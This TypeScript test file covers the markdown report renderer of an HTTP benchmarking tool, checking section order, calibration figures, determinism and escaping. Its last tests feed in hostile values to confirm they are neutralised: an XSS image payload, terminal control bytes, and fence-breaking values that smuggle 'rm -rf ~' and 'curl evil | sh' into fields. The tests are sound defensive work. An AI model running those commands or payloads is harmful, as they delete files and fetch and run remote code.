import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '../../../src/report/markdown.ts';
import { mdInline as mdCell } from '../../../src/util/markdown-text.ts';
import { renderReports } from '../../../src/report/index.ts';
import { renderTerminal } from '../../../src/report/terminal.ts';
import { makeDoc, makeStep, makeTarget, sampleRun } from '../../helpers/sample-run.ts';
import { ThresholdSchema } from '../../../src/scenario/schema.ts';
import { buildReportModel } from '../../../src/report/model.ts';

const RENDERED_AT = '2026-05-01T11:00:00.000Z';
/** Timestamps replaced, as the house style asks of renderer snapshots. */
const stable = (text: string) => text.replace(/\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z/g, '<time>');

describe('renderMarkdown', () => {
  const doc = sampleRun();

  it('matches the snapshot of the sample run', async () => {
    await expect(stable(renderMarkdown(buildReportModel(doc), { renderedAt: RENDERED_AT }))).toMatchFileSnapshot('__snapshots__/sample-run.report.md');
  });

  it('cites the claims source by title, author and year, without a link', () => {
    const md = renderMarkdown(buildReportModel({ ...sampleRun(), claimsSource: 'A. Author, A Title (2026)' }), { renderedAt: RENDERED_AT });
    const claims = md.indexOf('## Claims');
    expect(md.indexOf('Claims quoted from A. Author, A Title (2026).')).toBe(claims + '## Claims\n\n'.length);
    expect(renderMarkdown(buildReportModel(doc), { renderedAt: RENDERED_AT })).not.toContain('Claims quoted from');
  });

  it('puts the claims table before the environment and the results', () => {
    const md = renderMarkdown(buildReportModel(doc), { renderedAt: RENDERED_AT });
    const claims = md.indexOf('## Claims');
    expect(claims).toBeGreaterThan(0);
    expect(claims).toBeLessThan(md.indexOf('## Environment'));
    expect(md.indexOf('## Environment')).toBeLessThan(md.indexOf('## Results by target and configuration'));
    expect(md).toContain('| INCONCLUSIVE | throughput-ratio-8x |');
    // Lower bounds and corrected/uncorrected are labelled.
    expect(md).toContain('≥ 50,302 (49,764–50,839) req/s (load-side limit: a lower bound)');
    expect(md).toMatch(/\| max \(closed loop\) \| — \| 3,128 \(3,113–3,143\) \| — \| [^|]+ \| [^|]+ \| [^|]+ \| — \| uncorrected \|/);
    expect(md).toMatch(/\| rate \| 5,000 \| 3,065 \(3,050–3,080\) \| saturated \| /);
  });

  it("shows the instrument's floor beside every open-loop step and in its own section", () => {
    const calibrated = structuredClone(doc);
    const lat = { p50: 40, p90: 60, p95: 80, p99: 190, p999: 900, max: 2000, mean: 45, count: 20_000 };
    calibrated.calibration = {
      server: 'httpbench/calibration:latest', cpuset: '4-5', connections: 32, workers: 1, pacing: 'spin', durationS: 2,
      steps: [500, 1000, 2500, 5000, 7500, 10000, 15000, 20000].map((r) => ({ offeredRps: r, achievedRps: r, latencyUs: lat, generatorBound: false })),
      error: null,
    };
    const md = renderMarkdown(buildReportModel(calibrated), { renderedAt: RENDERED_AT });
    // The 5,000 req/s row of fastapi/1-worker: p99 floor 0.190 ms beside its own p99.
    expect(md).toMatch(/\| rate \| 5,000 \| 3,065 \(3,050–3,080\) \| saturated \| [^|]+ \| [^|]+ \| [^|]+ \| 0\.190 \| corrected \|/);
    expect(md).toContain('## Instrument floor');
    expect(md).toContain('| 10,000 | 10,000 | 0.040 | 0.080 | 0.190 | 0.900 | — |');
    expect(md).toContain('against httpbench/calibration:latest on cpuset 4-5');
    // Without calibration (older runs) there is no section and no floor figure.
    expect(renderMarkdown(buildReportModel(doc), { renderedAt: RENDERED_AT })).not.toContain('## Instrument floor');
  });

  it('is a pure function of (doc, renderedAt): byte-identical re-renders', () => {
    const a = renderReports(doc, { renderedAt: RENDERED_AT });
    const b = renderReports(structuredClone(doc), { renderedAt: RENDERED_AT });
    expect(b['report.md']).toBe(a['report.md']);
    expect(b['report.html']).toBe(a['report.html']);
    expect(renderTerminal(buildReportModel(doc))).toBe(renderTerminal(buildReportModel(structuredClone(doc))));
    // Only the render time differs between two renders at different times.
    const later = renderReports(doc, { renderedAt: '2027-01-01T00:00:00.000Z' });
    expect(later['report.md'].replace('2027-01-01T00:00:00.000Z', RENDERED_AT)).toBe(a['report.md']);
    expect(later['report.html'].replace('2027-01-01T00:00:00.000Z', RENDERED_AT)).toBe(a['report.html']);
  });

  it('shows an interrupted run and a failed target loudly', () => {
    const failed = makeTarget({ name: 'go-chi', configuration: 'all-cores', status: 'failed', reason: 'never became healthy within 60 s' });
    const ok = makeTarget({ name: 'fastapi', configuration: '1-worker', steps: [makeStep({ kind: 'max', achievedRps: 3000 })] });
    const d = makeDoc([ok, failed]);
    d.status = 'interrupted';
    d.finishedAt = null;
    const md = renderMarkdown(buildReportModel(d), { renderedAt: RENDERED_AT });
    expect(md).toContain('> **⚠ RUN INTERRUPTED');
    expect(md).toContain('- go-chi/all-cores repetition 0: FAILED — never became healthy within 60 s');
    expect(renderTerminal(buildReportModel(d))).toContain('!!! RUN INTERRUPTED');
  });

  it('leads with the headline, puts skipped configurations in a neutral note and shows thresholds', () => {
    const ok = makeTarget({ name: 'go-chi', configuration: 'gomaxprocs-1', sustainableRps: 9000, steps: [makeStep({ kind: 'max', achievedRps: 12000 }), makeStep({ offeredRps: 10000, achievedRps: 10000 })] });
    const skipped = makeTarget({ name: 'go-chi', configuration: 'all-cores', status: 'skipped', reason: "identical to configuration 'gomaxprocs-1' on a 1-CPU budget" });
    const d = makeDoc([ok, skipped]);
    d.scenario.thresholds = [ThresholdSchema.parse({ target: 'go-chi', metric: 'maxRps', op: '>', value: 20000 })];
    const md = renderMarkdown(buildReportModel(d), { renderedAt: RENDERED_AT });
    expect(md.indexOf('## Headline')).toBeLessThan(md.indexOf('## Claims'));
    expect(md.indexOf('## Claims')).toBeLessThan(md.indexOf('## Thresholds'));
    expect(md).toContain('| go-chi/gomaxprocs-1 | 2 | 12,000 | 9,000 | 2.000 | 2.000 | 60.0 | 100.0 |');
    expect(md).not.toContain('did not complete');
    expect(md).not.toContain('SKIPPED');
    expect(md).toContain("*Not run by design (the verdicts hold for what ran):*\n\n- go-chi/all-cores: identical to configuration 'gomaxprocs-1' on a 1-CPU budget");
    expect(md).toContain("### go-chi / all-cores\n\n2 CPU(s).\n\nNot run: identical to configuration 'gomaxprocs-1' on a 1-CPU budget.");
    expect(md).toContain('- Thresholds: 1 threshold: 0 pass, 1 fail, 0 not measured (below)');
    expect(md).toContain('| FAIL | go-chi max throughput > 20,000 req/s | go-chi/gomaxprocs-1: 12,000 req/s; go-chi/all-cores: not run | go-chi/gomaxprocs-1: 12,000 req/s fails > 20,000 req/s |');
    const terminal = renderTerminal(buildReportModel(d));
    expect(terminal).not.toContain('!!!');
    expect(terminal.indexOf('go-chi/gomaxprocs-1')).toBeLessThan(terminal.indexOf('Not run by design'));
  });

  it('escapes table cells', () => {
    expect(mdCell('a | b\nc <script>x</script> < 50 ms')).toBe('a \\| b c &lt;script>x&lt;/script> < 50 ms');
  });
});

describe('#23 defect 3: run.json text in report.md is escaped everywhere, not only in table cells', () => {
  const HOSTILE = '<img src=x onerror=alert(1)> **bold** `code` [link](http://e.x) \u001b[2J\u009b31m';
  function hostileDoc() {
    const d = makeDoc([
      makeTarget({ name: 'go-chi', configuration: 'default', steps: [makeStep({ kind: 'max', achievedRps: 30_000, corrected: null })] }),
      makeTarget({ name: `fastapi${HOSTILE}`, configuration: `cfg${HOSTILE}`, status: 'failed', reason: `crashed ${HOSTILE}`, steps: [] }),
    ]);
    d.startedAt = `2026-05-01 ${HOSTILE}`;
    d.claimsSource = `Source ${HOSTILE}`;
    d.claims![0]!.quote = `Quote ${HOSTILE}`;
    d.environment.cpuModel = `CPU ${HOSTILE}`;
    d.environment.gitCommit = 'abc```\nrm -rf ~; echo $(id)';
    d.scenarioFile = 'x.yaml```\n; curl evil | sh #';
    return d;
  }
  const md = renderMarkdown(buildReportModel(hostileDoc()), { renderedAt: RENDERED_AT });

  it('shows no raw HTML, control byte or Markdown from the document', () => {
    expect(md).not.toMatch(/<img|[\u001b\u009b]/);
    expect(md).not.toContain('**bold**');
    expect(md).not.toContain('`code`');
    expect(md).not.toContain('[link](');
    for (const where of ['run started 2026-05-01 ', 'Claims quoted from Source ', '> Quote ', 'Hardware: ', '### fastapi', 'crashed ']) {
      expect(md, where).toContain(where);
    }
    expect(md).toContain('&lt;img src=x onerror=alert(1)> \\*\\*bold\\*\\* \\`code\\` \\[link\\](http://e.x) \\\\x1b\\[2J\\\\x9b31m');
  });

  it('keeps the Reproduce block one fenced block of quoted shell words', () => {
    const block = md.slice(md.indexOf('## Reproduce'));
    const lines = block.split('\n').slice(2);
    const fence = lines[0]!.replace(/sh$/, '');
    expect(fence).toMatch(/^`{4,}$/);
    const close = lines.indexOf(fence, 1);
    const body = lines.slice(1, close);
    // Nothing inside can close the fence, and every line is one command with its argument quoted.
    expect(body.some((l) => l.startsWith(fence))).toBe(false);
    expect(body[0]).toBe("git checkout 'abc```\\x0arm -rf ~; echo $(id)'");
    expect(body[1]).toBe("httpbench run --scenario 'x.yaml```\\x0a; curl evil | sh #'");
    expect(body).toHaveLength(3);
  });
});
